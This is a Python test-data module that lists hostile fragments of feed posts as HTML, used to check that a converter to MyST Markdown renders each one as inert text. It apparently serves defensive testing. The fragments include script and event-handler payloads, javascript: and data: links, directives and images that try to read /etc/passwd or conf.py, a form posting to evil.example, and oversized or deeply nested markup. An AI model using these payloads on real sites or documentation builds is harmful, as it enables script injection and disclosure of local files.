"""Hostile pieces of posts, as data: what a feed could carry to become syntax, script or a file of ours.

``shows`` is text that the reader must see, exactly as the post spells it; ``formulas`` is how many formulas the piece
really has. Whatever else it tries to be (directive, role, comment, raw HTML, target, script) it must not become.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile piece of a post."""

    name: str
    html: str
    shows: str = ""
    formulas: int = 0
    bent: bool = False  # a formula that no form of MyST carries as it is: the receipt must say so


def _text(name: str, text: str, shows: str | None = None) -> Attack:
    """Return text in a paragraph; it must show as it is."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return Attack(name, f"<p>{escaped}</p>", text if shows is None else shows)


def _lines(name: str, *lines: str) -> Attack:
    """Return lines that a ``<br>`` puts at the start of a line each."""
    escaped = "<br>".join(line.replace("&", "&amp;").replace("<", "&lt;") for line in lines)
    return Attack(name, f"<p>{escaped}</p>", lines[-1])


ATTACKS: tuple[Attack, ...] = (
    # directives
    _lines("directive-colon", ":::{include} /etc/passwd", ":::"),
    _lines("directive-backtick", "```{include} /etc/passwd", "```"),
    _lines("directive-tilde", "~~~{raw} html", "<script>alert(1)</script>", "~~~"),
    _text("directive-one-line", "```{raw} html ```"),
    _lines("directive-eval", "```{eval-rst}", ".. raw:: html", "   <script>alert(1)</script>", "```"),
    _lines("directive-literalinclude", ":::{literalinclude} ../conf.py", ":::"),
    _lines("directive-figure", "```{figure} file:///etc/passwd", "```"),
    _lines("directive-longer", "::::::{admonition} x", "::::::"),
    Attack("code-info", '<pre><code class="language-{include}">/etc/passwd</code></pre>', "/etc/passwd"),
    Attack("code-info-raw", '<pre class="{raw} html"><code>&lt;b&gt;x&lt;/b&gt;</code></pre>', "<b>x</b>"),
    Attack("code-info-lang",
           '<pre data-lang="{eval-rst}"><code>.. include:: x</code></pre>', ".. include:: x"),
    Attack("code-info-newline",
           '<pre data-lang="python&#10;```&#10;{include} x"><code>body</code></pre>', "body"),
    Attack("code-closes-fence",
           "<pre><code>a\n```\n:::{include} /etc/passwd\n:::\n```{raw} html\n</code></pre>",
           ":::{include} /etc/passwd"),
    Attack("code-long-fence",
           "<pre><code>" + "`" * 40 + "{include} x\n" + "`" * 40 + "</code></pre>", "`" * 40),
    Attack("code-front-matter", "<pre><code>---\nid: 1\n---</code></pre>", "id: 1"),
    Attack("code-span-closes", "<p><code>a`{raw}`&lt;script&gt;b``c</code></p>", "a`{raw}`<script>b``c"),
    Attack("code-span-role", "<p>{raw}<code>html</code> tail</p>", "{raw}html tail"),
    Attack("code-span-role-math", "<p>{download}<code>/etc/passwd</code></p>", "{download}/etc/passwd"),
    Attack("code-span-attributes",
           "<p><code>x</code>{.hidden #own onclick=alert(1)}</p>", "x{.hidden #own onclick=alert(1)}"),
    # roles
    _text("role-download", "{download}`/etc/passwd`"),
    _text("role-raw", "{raw-html}`<script>alert(1)</script>`"),
    _text("role-doc", "see {doc}`index` and {ref}`genindex`"),
    _text("role-eval", "{{ config }} and {{env.config}} and {%raw%}"),
    _text("role-math", "{math}`x^2`"),
    _text("role-sub", "|version| and |release| and |today|"),
    # structure of the file
    _lines("front-matter", "---", "id: stolen", "---"),
    _lines("comment", "% hidden from the reader"),
    _lines("block-break", "+++ cut here"),
    _lines("target", "(stolen-label)="),
    _lines("target-text", "(stolen-label)= and more"),
    _lines("heading", "# not a heading"),
    _lines("setext", "not a heading", "==="),
    _lines("setext-dashes", "not a heading", "---"),
    _lines("quote", "> not a quote"),
    _lines("list", "- not a list"),
    _lines("numbered", "1. not a list"),
    _lines("numbered-paren", "123) not a list"),
    _lines("definition", "term", ": not a definition"),
    _lines("definition-tilde", "term", "~ not a definition"),
    _lines("table", "a | b", "--- | ---", "c | d"),
    _lines("field-list", ":orphan:", ":nosearch: yes"),
    _lines("indented", "    not code"),
    _lines("attribute-block", "{.annotation}", "text"),
    _lines("attribute-block-id", "{#stolen onclick=\"alert(1)\"}", "text"),
    Attack("attribute-block-heading", "<p>{.annotation}</p><h2>Heading</h2><p>x</p>", "{.annotation}"),
    Attack("attribute-inline", '<p><a href="https://e.example/">a</a>{target=_blank onclick="alert(1)"}</p>',
           'a{target=_blank onclick="alert(1)"}'),
    _text("attribute-span", "[text]{.annotation #x}"),
    # references, footnotes, links in text
    _text("footnote", "[^1] and [^1]: a definition"),
    _lines("footnote-definition", "[^1]: not a definition"),
    _lines("link-definition", "[own]: javascript:alert(1)"),
    _text("link-text", "[click](javascript:alert(1))"),
    _text("link-project", "[](#top) [x](project:index.md) [y](path:../conf.py)"),
    _text("link-inventory", "<inv:*:*#index>"),
    _text("image-text", "![x](file:///etc/passwd)"),
    _text("autolink", "<javascript:alert(1)> and <https://e.example>"),
    Attack("image-then-link",
           '<p>look!<a href="https://e.example/a.png">a picture</a></p>', "look!a picture"),
    # HTML
    _text("html-text", "<script>alert(1)</script>"),
    _text("html-image", "<img src=x onerror=alert(1)>"),
    _text("html-comment", "<!-- hidden --> shown"),
    _text("html-instruction", "<?php echo 1 ?>"),
    _text("html-cdata", "<![CDATA[ x ]]>"),
    _lines("html-block", "<div onclick=alert(1)>", "</div>"),
    _text("entity", "&lt;script&gt; and &#60;b&#62;"),
    Attack("html-script", "<p>a</p><script>alert(1)</script><p>b</p>", "b"),
    Attack("html-style", "<style>body{display:none}</style><p>shown</p>", "shown"),
    Attack("html-handlers", '<p onclick="alert(1)" style="position:fixed">shown</p>', "shown"),
    Attack("html-svg", '<svg onload="alert(1)"><script>alert(2)</script></svg><p>shown</p>', "shown"),
    Attack("html-iframe",
           '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(2)"></iframe><p>shown</p>',
           "shown"),
    Attack("html-object",
           '<object data="data:text/html,<script>alert(1)</script>"></object><p>shown</p>', "shown"),
    Attack("html-meta",
           '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>shown</p>', "shown"),
    Attack("html-base", '<base href="javascript:alert(1)//"><p><a href="x">shown</a></p>', "shown"),
    Attack("html-form", '<form action="https://evil.example/"><input name=q><p>shown</p></form>', "shown"),
    Attack("html-noscript",
           "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>shown</p>",
           "shown"),
    Attack("html-forged", '<zs-math n="0">x</zs-math><zs-math n="999999">y</zs-math><p>shown</p>', "shown"),
    Attack("html-broken", "<p><b><i>a</b></i><table><tr><td>b<p>shown</table></p></ul>", "shown"),
    Attack("html-nul", "<p>a\x00b\x01<b\x00>c</b>shown</p>", "shown"),
    Attack("html-huge-attribute", f'<p title="{"x" * 300_000}">shown</p>', "shown"),
    Attack("html-deep-div", "<div>" * 1500 + "shown" + "</div>" * 1500, "shown"),
    Attack("html-deep-span", "<p>" + "<b><i>" * 700 + "shown" + "</i></b>" * 700 + "</p>", "shown"),
    Attack("html-deep-list", "<ul><li>" * 400 + "shown" + "</li></ul>" * 400, "shown"),
    Attack("html-deep-quote", "<blockquote>" * 600 + "shown" + "</blockquote>" * 600, "shown"),
    Attack("html-deep-table", "<table><tr><td>" * 200 + "shown" + "</td></tr></table>" * 200, "shown"),
    Attack("html-wide-table",
           '<table><tr><th colspan="99999999">a</th></tr><tr><td rowspan="65535">shown</td></tr></table>',
           "shown"),
    # links and pictures
    Attack("link-script", '<p><a href="javascript:alert(1)">shown</a></p>', "shown"),
    Attack("link-script-spelled", '<p><a href=" jAvA&#9;script&#58;alert(1)">shown</a></p>', "shown"),
    Attack("link-script-control", '<p><a href="&#1;javascript:alert(1)">shown</a></p>', "shown"),
    Attack("link-data", '<p><a href="data:text/html,<script>alert(1)</script>">shown</a></p>', "shown"),
    Attack("link-vbscript", '<p><a href="vbscript:msgbox(1)">shown</a></p>', "shown"),
    Attack("link-file", '<p><a href="file:///etc/passwd">shown</a></p>', "shown"),
    Attack("link-destination",
           '<p><a href="https://e.example/) [x](javascript:alert(1)">shown</a></p>', "shown"),
    Attack("link-destination-angle",
           '<p><a href="https://e.example/>&#10;&#10;:::{include} x">shown</a></p>', "shown"),
    Attack("link-title",
           '<p><a href="https://e.example/" title=\'") :::{include} x\'>shown</a></p>', "shown"),
    Attack("link-myst-scheme",
           '<p><a href="inv:python#index">shown</a> <a href="#top">too</a></p>', "shown too"),
    Attack("link-text-closes",
           '<p><a href="https://e.example/">](javascript:alert(1)) [x</a></p>',
           "](javascript:alert(1)) [x"),
    Attack("image-script", '<p><img src="javascript:alert(1)" alt="shown"></p>', "shown"),
    Attack("image-local", '<p><img src="file:///etc/passwd" alt="shown"></p>', "shown"),
    Attack("image-alt",
           '<p><img src="https://e.example/x.png" alt="](x) ![y](file:///etc/passwd) {raw}`x`"></p>',
           "](x) ![y](file:///etc/passwd) {raw}`x`"),
    Attack("image-alt-lines",
           '<p><img src="https://e.example/x.png" alt="a&#10;&#10;:::{include} x&#10;:::"></p>',
           "a :::{include} x :::"),
    # math that is more than math
    Attack("math-closes", "<p>\\(x$ {raw}`html` $y\\)</p>", "", 1, True),
    Attack("math-display-closes",
           "<p>$$x\n$$\n\n:::{include} /etc/passwd\n:::\n\n$$y$$</p>", ":::{include} /etc/passwd ::: ", 2),
    Attack("math-script",
           '<script type="math/tex; mode=display">a\n$$\n\n```{raw} html\n&lt;b&gt;\n```\n</script>',
           "", 1),
    Attack("math-backtick", "<p>\\(\\text{`` $x$ ``} {raw}`html`\\)</p>", "", 1, True),
    Attack("math-tex-attribute", '<p><span data-tex="x}$ {raw}`a` $"></span></p>', "", 1, True),
    Attack("math-environment",
           "<p>\\begin{align}a\n\\end{align}\n\n(stolen)=\n\n\\begin{align}b\\end{align}</p>", "", 2),
    Attack("money", "<p>It costs $5, not $10 or US$ 7.</p>", "It costs $5, not $10 or US$ 7."),
    # containers that we write as directives
    Attack("details-title",
           "<details><summary>:class: x {raw}`y` ```</summary><p>shown</p></details>", "shown"),
    Attack("details-body",
           "<details><summary>s</summary><p>:class: danger</p><pre>```\n:::\n</pre><p>shown</p></details>",
           "shown"),
    Attack("details-lines",
           "<details><summary>a<br>:name: stolen<br><br>:::</summary><p>shown</p></details>", "shown"),
    Attack("list-table-cell",
           "<table><tr><td>:header-rows: 9<br>b</td><td><p>* - x</p><p>```</p></td></tr></table>",
           "* - x"),
    Attack("pipe-table-cell",
           "<table><tr><th>a|b</th><th>`</th></tr><tr><td>|---|</td><td>\\|</td></tr></table>", "|---|"),
    Attack("definition-term", "<dl><dt>: x<br>(stolen)=</dt><dd>: shown</dd></dl>", ": shown"),
    Attack("title-heading",
           "<h2>{#stolen} {.annotation} # x #</h2><p>shown</p>", "{#stolen} {.annotation} # x #"),
)
